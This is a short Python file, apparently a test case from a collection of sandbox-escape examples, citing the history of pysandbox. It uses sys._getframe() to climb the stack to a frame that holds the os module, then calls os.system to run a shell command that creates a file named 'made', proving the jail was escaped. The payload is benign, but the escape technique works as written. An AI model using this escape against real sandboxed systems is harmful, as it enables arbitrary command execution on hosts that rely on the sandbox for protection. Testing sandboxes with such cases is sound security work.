"""sys._getframe() leads to the frames outside the jail.

Known from: the history of pysandbox
Effect: made
"""
import sys

frame = sys._getframe()
while "os" not in frame.f_globals:
    frame = frame.f_back
frame.f_globals["os"].system(": > made")
